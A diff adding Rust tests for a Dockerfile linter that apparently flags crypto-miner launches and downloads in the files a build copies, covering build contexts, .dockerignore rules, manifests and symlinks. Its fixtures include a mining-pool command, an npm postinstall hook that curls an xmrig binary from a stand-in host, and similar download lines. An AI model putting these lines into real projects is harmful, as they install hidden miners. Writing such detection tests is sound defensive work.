@@ -1,0 +1,98 @@
+//! `lint` with the files that a Dockerfile takes.
+
+use super::room::Room;
+
+const TAKES_ALL: &str = "FROM debian:12\nCOPY . /app\n";
+const SCRIPT: &str = "#!/bin/sh\nset -e\nexec /opt/tool -o stratum+tcp://pool.example.invalid:1\n";
+
+#[test]
+fn a_finding_points_into_the_script_and_at_the_copy() {
+    let room = Room::with(&[("app/Dockerfile", TAKES_ALL), ("app/bin/start", SCRIPT)]);
+    let run = room.run(&["lint", "app"]);
+    assert_eq!(run.code, 1, "{}", run.err);
+    assert!(run.out.contains("app/bin/start:3:"), "{}", run.out);
+    assert!(run.out.contains("app/Dockerfile:2:6"), "{}", run.out);
+    assert!(run.out.contains("this takes the file"), "{}", run.out);
+}
+
+#[test]
+fn the_context_may_lie_elsewhere_or_be_left_out() {
+    let room = Room::with(&[
+        ("docker/Dockerfile", "FROM debian:12\nCOPY bin/start /\n"),
+        ("src/bin/start", SCRIPT),
+    ]);
+    assert_eq!(room.run(&["lint", "docker"]).code, 0);
+    assert_eq!(room.run(&["lint", "docker", "--context", "src"]).code, 1);
+    assert_eq!(room.run(&["lint", "src", "docker", "--context", "src", "--no-context"]).code, 2);
+    room.write("docker/bin/start", SCRIPT);
+    assert_eq!(room.run(&["lint", "docker"]).code, 1);
+    assert_eq!(room.run(&["lint", "docker", "--no-context"]).code, 0);
+}
+
+#[test]
+fn a_context_that_is_not_there_is_an_error() {
+    let room = Room::with(&[("Dockerfile", TAKES_ALL)]);
+    let run = room.run(&["lint", "--context", "nowhere"]);
+    assert_eq!(run.code, 2);
+    assert!(run.err.contains("`nowhere` is no directory"), "{}", run.err);
+}
+
+#[test]
+fn what_the_build_does_not_see_is_not_judged() {
+    let files = [("Dockerfile", TAKES_ALL), ("start.sh", SCRIPT), (".dockerignore", "*.sh\n")];
+    let room = Room::with(&files);
+    assert_eq!(room.run(&["lint"]).code, 0);
+    // the ignore file of this Dockerfile comes first
+    room.write("Dockerfile.dockerignore", "*.md\n");
+    assert_eq!(room.run(&["lint"]).code, 1);
+}
+
+#[test]
+fn manifests_are_read_as_the_commands_that_they_stand_for() {
+    let files = [
+        (
+            "package.json",
+            "{\"scripts\": {\n \"postinstall\": \"curl -O https://h.example.invalid/xmrig\" }}",
+            2,
+        ),
+        ("requirements.txt", "# tools\n\nhttps://h.example.invalid/xmrig.tar.gz\n", 3),
+        ("Cargo.toml", "[dependencies]\nx = { git = \"https://github.com/xmrig/xmrig\" }\n", 2),
+    ];
+    for (name, text, line) in files {
+        let room = Room::with(&[("Dockerfile", TAKES_ALL), (name, text)]);
+        let run = room.run(&["lint", "--format", "short"]);
+        assert_eq!(run.code, 1, "{name}: {}", run.out);
+        assert!(run.out.contains(&format!("{name}:{line}:")), "{name}: {}", run.out);
+    }
+    let listed = "FROM debian:12\nCOPY dl.cfg /tmp/\nRUN curl -K /tmp/dl.cfg\n";
+    let urls = "url = https://h.example.invalid/xmrig\noutput = /opt/app\n";
+    let room = Room::with(&[("Dockerfile", listed), ("dl.cfg", urls)]);
+    let run = room.run(&["lint", "--format", "short"]);
+    assert!(run.out.contains("dl.cfg:1:33"), "{}", run.out);
+}
+
+#[test]
+fn a_script_that_is_not_utf_8_is_read_at_the_right_places() {
+    let room = Room::with(&[("Dockerfile", TAKES_ALL)]);
+    let mut script = b"#!/bin/sh\n# \xff\xfe\n".to_vec();
+    script.extend_from_slice(b"run stratum+tcp://pool.example.invalid:1\n");
+    room.write("start", script);
+    let run = room.run(&["lint", "--format", "short"]);
+    assert!(run.out.contains("start:3:5"), "{}", run.out);
+}
+
+#[cfg(unix)]
+#[test]
+fn links_lead_nowhere_outside_and_pipes_block_nothing() {
+    use std::os::unix::fs::symlink;
+    let room = Room::with(&[("app/Dockerfile", TAKES_ALL), ("start.sh", SCRIPT)]);
+    symlink("../start.sh", room.path("app/outside.sh")).expect("a link can be made");
+    symlink(".", room.path("app/loop")).expect("a link can be made");
+    let made = std::process::Command::new("mkfifo").arg(room.path("app/pipe.sh")).status();
+    assert!(made.expect("mkfifo runs").success());
+    assert_eq!(room.run(&["lint", "app"]).code, 0);
+    room.write("app/hidden/real", SCRIPT);
+    room.write("app/Dockerfile", "FROM debian:12\nCOPY link.sh /app/\n");
+    symlink("hidden/real", room.path("app/link.sh")).expect("a link can be made");
+    assert_eq!(room.run(&["lint", "app"]).code, 1);
+}
